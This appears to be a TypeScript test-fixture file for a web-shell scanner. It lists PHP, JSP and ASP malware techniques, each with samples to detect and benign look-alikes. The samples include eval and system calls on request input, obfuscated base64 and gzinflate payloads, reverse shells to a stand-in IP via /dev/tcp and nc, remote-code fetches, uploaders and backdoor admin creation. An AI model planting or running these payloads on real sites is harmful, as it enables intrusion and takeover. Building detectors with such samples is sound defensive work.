import { deflateRawSync } from 'node:zlib'
import { along, INPUTS } from './inputs.ts'

/** One way to do harm: samples that must be found, and honest code that looks like it and must not be. */
export interface Technique {
  readonly name: string
  /** What at least one finding of each sample must be. */
  readonly severity: 'confirmed' | 'suspicious'
  readonly extension?: string
  readonly samples: readonly string[]
  readonly honest: readonly string[]
}

const base64 = (text: string) => Buffer.from(text).toString('base64')
const deflated = (text: string) => deflateRawSync(text).toString('base64')
const hex = (text: string) => [...text].map(c => `\\x${c.charCodeAt(0).toString(16)}`).join('')
const codes = (text: string) => [...text].map(c => `chr(${c.charCodeAt(0)})`).join('.')
const reversed = (text: string) => [...text].toReversed().join('')
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, c => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13)))
const php = (code: string) => `<?php\n${code}\n`
const PAYLOADS = [
  'eval($_POST["x"]);',
  'system($_GET[0]);',
  '$f = $_REQUEST["f"]; $f($_REQUEST["a"]);',
  'passthru(base64_decode($_COOKIE["c"]));',
  'file_put_contents($_POST["n"], $_POST["d"]);',
]

const plain: Technique[] = [
  {
    name: 'input to eval',
    severity: 'confirmed',
    samples: [...along(v => `@eval(${v});`), ...along(v => `EvaL/*x*/ ( "?>" . ${v} );`)],
    honest: [
      php(`// eval($_POST['x']) is never a good idea`),
      php(`$help = 'eval($_POST["x"]);'; echo esc_html($help);`),
      php(`function evaluate($_, $x) { return $x; } evaluate(1, $_POST['x']);`),
    ],
  },
  {
    name: 'input to assert',
    severity: 'confirmed',
    samples: [...along(v => `assert(${v});`), ...along(v => `$n = 'as' . 'sert'; $n(${v});`)],
    honest: [
      php(`assert(is_string($_POST['x'] ?? ''));`),
      php(`$this->assert($_GET['a']); Assert::same($_POST['x'], 1);`),
    ],
  },
  {
    name: 'input to a command',
    severity: 'confirmed',
    samples: ['system', 'passthru', 'shell_exec', 'exec', 'popen'].flatMap((name, at) =>
      along(v => `echo ${name}(${v}${name === 'popen' ? ", 'r'" : ''});`).slice(at, at + 5),
    ),
    honest: [
      php(`exec('convert ' . escapeshellarg($_POST['file']) . ' out.png');`),
      php(`$pdo->exec($_POST['sql']); $curl->exec($_GET['x']);`),
      php(`$disabled = array('exec', 'system', 'passthru', 'shell_exec'); in_array($_GET['f'], $disabled);`),
    ],
  },
  {
    name: 'backticks',
    severity: 'confirmed',
    samples: ["$_GET['c']", '$_POST[0]', '{$_REQUEST["c"]}'].map(v => php(`echo \`${v.replaceAll("'", '')}\`;`)),
    honest: [php('$sql = "SELECT `id` FROM `" . $table . "`"; // `$_GET[x]`'), php('echo `git rev-parse HEAD`;')],
  },
  {
    name: 'named functions',
    severity: 'confirmed',
    samples: [
      ...INPUTS.slice(0, 5).map(v => php(`${v.replace('@', '')}(${v});`)),
      ...INPUTS.slice(0, 4).map(v => php(`$f = ${v}; $f(${v});`)),
      php('$c = $_COOKIE; $c[1]($c[2], $c[3]);'),
      php('call_user_func($_GET["a"], $_GET["b"]);'),
      php('call_user_func_array($_POST["a"], array($_POST["b"]));'),
      php('array_map($_REQUEST["f"], array($_REQUEST["x"]));'),
      php('$r = new ReflectionFunction($_GET["f"]); $r->invoke($_GET["x"]);'),
      php('array_filter(array($_POST["x"]), $_POST["f"]);'),
    ],
    honest: [
      php(`$handlers = array('a' => 'do_a'); $name = $_GET['h']; if (isset($handlers[$name])) $handlers[$name]();`),
      php(`call_user_func($this->callback, $_POST); array_map('sanitize_text_field', $_POST['list']);`),
      php(`array_filter($_POST); usort($items, 'by_name'); array_walk($_GET, array($this, 'clean'));`),
    ],
  },
  {
    name: 'callbacks that run',
    severity: 'confirmed',
    samples: [
      ...['assert', 'system', 'passthru', 'shell_exec'].flatMap(f => [
        php(`array_map('${f}', array($_POST['x']));`),
        php(`call_user_func('${f}', $_GET['c']);`),
        php(`$l = array($_REQUEST['v']); array_filter($l, '${f}');`),
      ]),
      php(`register_shutdown_function('system', $_GET['c']);`),
    ],
    honest: [
      php(`array_map('trim', $_POST['x']); call_user_func('my_system', $_GET['c']);`),
      php(`usort($_POST['rows'], 'strcmp');`),
    ],
  },
  {
    name: 'create_function',
    severity: 'confirmed',
    samples: along(v => `$f = create_function('', ${v}); $f();`),
    honest: [php(`$f = create_function('$a', 'return $a * 2;');`)],
  },
  {
    name: 'patterns that run',
    severity: 'confirmed',
    samples: [
      ...along(v => `preg_replace('/.*/e', ${v}, 'x');`).slice(0, 6),
      php(`preg_replace($_GET['p'], $_GET['r'], $_GET['s']);`),
      php(`mb_ereg_replace('.*', $_REQUEST['x'], '', 'e');`),
    ],
    honest: [
      php(`preg_replace('/\\s+/', ' ', $_POST['x']); preg_replace('~/e~', '', $_GET['path']);`),
      php(`preg_replace_callback('/x/', fn ($m) => $m[0], $_POST['t']);`),
    ],
  },
  {
    name: 'input to a file',
    severity: 'confirmed',
    samples: INPUTS.slice(0, 8).map(v => php(`file_put_contents($_POST['name'], ${v});`)),
    honest: [
      php(`file_put_contents($log, date('c') . ' ' . sanitize_text_field($_POST['x']));`),
      php(`update_option('x', $_POST['x']); file_put_contents(__DIR__ . '/cache.json', json_encode($data));`),
    ],
  },
  {
    name: 'includes',
    severity: 'suspicious',
    samples: [
      ...along(v => `include(${v});`).slice(0, 7),
      php(`include 'php://input';`),
      php(`require_once "wp-content/uploads/.cache.ico";`),
      php(`@include "\\x77p-cont\\x65nt/im\\x61ge.png";`),
    ],
    honest: [
      php(`include __DIR__ . '/views/' . sanitize_file_name($_GET['view']) . '.php';`),
      php(`$url = includes_url('images/logo.png'); require_once ABSPATH . 'wp-admin/includes/file.php';`),
      php(`include plugin_dir_path(__FILE__) . 'icon.svg';`),
    ],
  },
]

const hidden: Technique[] = [
  {
    name: 'decoders around code',
    severity: 'suspicious',
    samples: PAYLOADS.flatMap(code => [
      php(`eval(base64_decode('${base64(code)}'));`),
      php(`eval(gzinflate(base64_decode('${deflated(code)}')));`),
      php(`eval(str_rot13('${rot13(code)}'));`),
      php(`$x = '${base64(code)}'; eval(base64_decode($x));`),
    ]),
    honest: [
      php(`$logo = base64_decode('${base64('a picture, which is not code at all')}'); echo strlen($logo);`),
      php(`$data = gzinflate(base64_decode($row->data)); return json_decode($data);`),
    ],
  },
  {
    name: 'decoders in layers',
    severity: 'confirmed',
    samples: PAYLOADS.flatMap(code => [
      php(`eval(base64_decode('${base64(`eval(gzinflate(base64_decode('${deflated(code)}')));`)}'));`),
      php(`eval(strrev('${reversed(`eval(base64_decode("${base64(code)}"));`)}'));`),
      php(`assert(base64_decode('${base64(`eval("${code.replaceAll('"', '\\"').replaceAll('$', '\\$')}");`)}'));`),
    ]),
    honest: [php(`$pdf = base64_decode(strrev($encoded)); header('Content-Type: application/pdf'); echo $pdf;`)],
  },
  {
    name: 'hidden names',
    severity: 'confirmed',
    samples: ['assert', 'system', 'base64_decode', 'create_function', 'shell_exec'].flatMap(name => [
      php(`$f = ${codes(name)}; $f($_POST['x']);`),
      php(`$f = strrev('${reversed(name)}'); echo $f($_GET['x']);`),
      php(`$f = str_rot13('${rot13(name)}'); $f($_REQUEST['x']);`),
      php(
        `$k = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = ${[...name].map(c => `$k[${'abcdefghijklmnopqrstuvwxyz_0123456789'.indexOf(c)}]`).join('.')}; $f($_POST[1]);`,
      ),
    ]),
    honest: [
      php(`$nl = chr(13) . chr(10); $bom = chr(239) . chr(187) . chr(191); echo $nl . $bom;`),
      php(`$name = 'wp_' . $type; if (function_exists($name)) $name();`),
    ],
  },
  {
    name: 'pieces put together',
    severity: 'confirmed',
    samples: ['system', 'assert', 'passthru'].flatMap(name => [
      php(`$f = str_replace('#', '', '${[...name].join('#')}'); $f($_GET['x']);`),
      php(`$f = implode('', array(${[...name].map(c => `'${c}'`).join(', ')})); $f($_POST['x']);`),
      php(
        `$f = ${[...name].map(c => `('${String.fromCharCode(c.charCodeAt(0) ^ 1)}' ^ '${'\\x01'}')`.replaceAll("'\\x01'", '"\\x01"')).join('.')}; $f($_REQUEST['x']);`,
      ),
    ]),
    honest: [
      php(`$key = str_replace('-', '_', 'my-option'); $list = implode(', ', array('a', 'b')); echo $key . $list;`),
      php(`$mask = 'abc' ^ 'xyz'; echo bin2hex($mask);`),
    ],
  },
  {
    name: 'objects and any variable',
    severity: 'confirmed',
    samples: [
      php(
        `class A { function __construct() { $this->c = $_POST['c']; } function run() { system($this->c); } } (new A)->run();`,
      ),
      php(`function go() { extract($_REQUEST); eval($code); } go();`),
      php(`foreach ($_POST as $k => $v) $$k = $v; assert($payload);`),
    ],
    honest: [
      php(
        `class B { function __construct() { $this->c = sanitize_key($_POST['c']); } function run() { do_action($this->c); } }`,
      ),
      php(`function view($args) { extract($args); include __DIR__ . '/view.php'; }`),
    ],
  },
  {
    name: 'codes of characters',
    severity: 'confirmed',
    samples: PAYLOADS.map(code => php(`eval("${hex(code)}");`)).concat(
      INPUTS.slice(0, 4).map(v => php(`$f = "${hex('system')}"; $f(${v});`)),
    ),
    honest: [php(`$bom = "\\xEF\\xBB\\xBF"; $dash = "\\xe2\\x80\\x94"; echo str_replace($bom, '', $text);`)],
  },
  {
    name: 'code from elsewhere',
    severity: 'confirmed',
    samples: ['http://203.0.113.7/a.txt', 'https://paste.example/raw/1'].flatMap(url => [
      php(`eval(file_get_contents('${url}'));`),
      php(`eval('?>' . file_get_contents('${url}'));`),
      php(`$c = curl_init('${url}'); eval(curl_exec($c));`),
      php(`@eval(base64_decode(file_get_contents('${url}')));`),
    ]),
    honest: [
      php(`$news = file_get_contents('https://example.com/news.json'); echo esc_html($news);`),
      php(`$response = wp_remote_get('https://example.com'); $body = wp_remote_retrieve_body($response);`),
    ],
  },
  {
    name: 'jumps',
    severity: 'suspicious',
    samples: [30, 60].map(count =>
      php(Array.from({ length: count }, (_, at) => `x${at}a: $v${at} = ${at}; goto x${(at * 7) % count}a;`).join('\n')),
    ),
    honest: [php(`again: $tries++; if ($tries < 3) goto again;`)],
  },
]

const tools: Technique[] = [
  {
    name: 'file managers',
    severity: 'confirmed',
    samples: ["$_GET['p']", "$_POST['path']", '$_REQUEST["f"]'].flatMap(v => [
      php(`$p = ${v};
if (isset($_GET['rm'])) unlink($p);
if (isset($_GET['mode'])) chmod($p, octdec($_GET['mode']));
if (isset($_GET['edit'])) { $h = fopen($p, 'w'); fwrite($h, $_POST['text']); }
foreach (scandir($p) as $n) echo "<a href='?p=$n'>$n</a>";`),
      php(`rename(${v}, $_GET['to']); rmdir(${v}); mkdir(${v}); touch(${v}); echo file_get_contents(${v});`),
    ]),
    honest: [
      php(`check_admin_referer('edit'); $p = $_GET['p']; unlink($p); chmod($p, 0644); rename($p, $q); mkdir($p);`),
      php(`$files = scandir($dir); foreach ($files as $f) unlink("$dir/$f"); rmdir($dir); chmod($dir, 0755);`),
    ],
  },
  {
    name: 'every way to run',
    severity: 'suspicious',
    samples: ["$_POST['c']", "$_GET['c']"].map(v =>
      php(`$c = ${v};
function run($x) {
  if (function_exists('exec')) { exec($x, $o); return implode("\\n", $o); }
  if (function_exists('shell_exec')) return shell_exec($x);
  if (function_exists('system')) { ob_start(); system($x); return ob_get_clean(); }
  if (function_exists('passthru')) { ob_start(); passthru($x); return ob_get_clean(); }
  $p = popen($x, 'r'); return fread($p, 9999);
}
echo run($c);`),
    ),
    honest: [
      php(
        `$found = array(); foreach (array('exec', 'shell_exec', 'system', 'passthru') as $f) $found[$f] = function_exists($f);`,
      ),
      php(`$process = proc_open($command, $pipes, $cwd); return exec('which mysqldump');`),
    ],
  },
  {
    name: 'uploaders',
    severity: 'suspicious',
    samples: ['f', 'file', 'userfile', 'image'].flatMap(name => [
      `<form method="post" enctype="multipart/form-data"><input type="file" name="${name}"><input type="submit"></form>
<?php if (isset($_FILES['${name}'])) move_uploaded_file($_FILES['${name}']['tmp_name'], $_FILES['${name}']['name']);`,
      `<?php @copy($_FILES["${name}"]["tmp_name"], "./" . $_FILES["${name}"]["name"]); ?>`,
    ]),
    honest: [
      php(
        `if (!current_user_can('upload_files')) wp_die(); move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $_FILES['f']['name']);`,
      ),
      php(`$file = wp_handle_upload($_FILES['f'], array('test_form' => false));`),
    ],
  },
  {
    name: 'reverse shells',
    severity: 'confirmed',
    samples: [4444, 9001, 53].flatMap(port => [
      php(`$s = fsockopen('203.0.113.7', ${port}); $p = proc_open('/bin/sh -i', array($s, $s, $s), $pipes);`),
      php(`exec("/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/${port} 0>&1'");`),
      php(`shell_exec('nc -e /bin/sh 203.0.113.7 ${port}');`),
    ]),
    honest: [
      php(`$socket = fsockopen('tls://smtp.example.com', 465); fwrite($socket, "EHLO example.com");`),
      php(`$process = proc_open('php -v', $spec, $pipes); // not /bin/sh`),
    ],
  },
  {
    name: 'mailers',
    severity: 'suspicious',
    samples: along(() => `mail($_POST['to'], $_POST['subject'], $_POST['text']);`)
      .slice(0, 3)
      .concat(
        php(
          `$to = $_REQUEST['t']; $s = $_REQUEST['s']; $m = stripslashes($_REQUEST['m']); foreach (explode("\\n", $to) as $one) mail($one, $s, $m);`,
        ),
      ),
    honest: [
      php(`mail('owner@example.com', 'Contact', $_POST['text']);`),
      php(`wp_mail($_POST['to'], 'Hi', 'text'); $this->mail($_POST['a'], $_POST['b'], $_POST['c']);`),
    ],
  },
  {
    name: 'guarded shells',
    severity: 'suspicious',
    samples: ["$_POST['pass']", "$_COOKIE['p']", "$_GET['k']"].map(v =>
      php(`if (md5(${v}) == '5f4dcc3b5aa765d61d8327deb882cf99') { $ok = true; }`),
    ),
    honest: [php(`if (md5($file) == $expected) return true; if (md5($_GET['k']) === get_option('key_hash')) return;`)],
  },
  {
    name: 'secret sign-ins',
    severity: 'suspicious',
    samples: [
      php(`if (isset($_GET['in'])) { $id = $_GET['in']; wp_set_auth_cookie($id); wp_redirect(admin_url()); exit; }`),
      php(
        `if (isset($_POST['u'])) { $id = wp_create_user($_POST['u'], $_POST['p']); $user = new WP_User($id); $user->set_role('administrator'); }`,
      ),
    ],
    honest: [
      php(`$user = wp_signon($credentials); wp_set_auth_cookie($user->ID, true);`),
      php(
        `if (!current_user_can('create_users')) return; wp_insert_user(array('role' => 'administrator', 'user_login' => $_POST['u']));`,
      ),
    ],
  },
  {
    name: 'cloaking',
    severity: 'suspicious',
    samples: ['stripos', 'strpos', 'stristr'].map(f =>
      php(
        `if (${f}($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { echo file_get_contents('http://203.0.113.9/links.php?d=' . $_SERVER['HTTP_HOST']); exit; }`,
      ),
    ),
    honest: [
      php(
        `$isBot = preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT']); if ($isBot) return; count_visit();`,
      ),
    ],
  },
]

const others: Technique[] = [
  {
    name: 'PHP in pictures',
    severity: 'confirmed',
    extension: 'gif',
    samples: PAYLOADS.map(code => `GIF89a\x01\x00\x00<?php ${code} ?>\x00;`),
    honest: ['GIF89a\x01\x00\x01\x00<?xpacket begin="?"?>\x00;', 'GIF89a <?= not php'],
  },
  {
    name: 'handlers',
    severity: 'confirmed',
    extension: 'htaccess',
    samples: ['AddHandler', 'AddType'].flatMap(word => [
      `${word} application/x-httpd-php .jpg\n`,
      `<IfModule mod_mime.c>\n${word} application/x-httpd-php .png .gif\n</IfModule>\n`,
    ]),
    honest: [
      'AddType image/webp .webp\nAddHandler application/x-httpd-php .php\n',
      '<FilesMatch "\\.(jpg|png)$">\nHeader set Cache-Control "max-age=1"\n</FilesMatch>\n',
    ],
  },
  {
    name: 'shells in other languages',
    severity: 'confirmed',
    extension: 'jsp',
    samples: [
      `<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>`,
      `<%@ page import="java.io.*" %><% new ProcessBuilder(request.getParameter("c").split(" ")).start(); %>`,
      `<% eval request("x") %>`,
      `<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>`,
    ],
    honest: [`<%= request.getParameter("name") %>`, `<% out.print(new Date()); %>`],
  },
]

export const TECHNIQUES: readonly Technique[] = [...plain, ...hidden, ...tools, ...others]
